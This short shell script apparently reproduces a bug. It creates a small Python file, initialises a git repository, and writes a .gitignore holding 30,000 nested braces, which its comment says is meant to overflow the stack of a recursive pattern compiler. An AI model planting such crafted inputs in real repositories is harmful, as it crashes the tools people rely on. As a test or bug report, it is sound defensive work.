# The attacker wants the stack to overflow: a pattern of `.gitignore` has braces in braces, which are compiled by recursion.
printf 'import asyncio\n\n\nasync def f():\n    asyncio.sleep(1)\n' > a.py
git init -q
{ yes '{' | head -n 30000 | tr -d '\n'; echo a; yes ',b}' | head -n 30000 | tr -d '\n'; } | tr -d '\n' > .gitignore
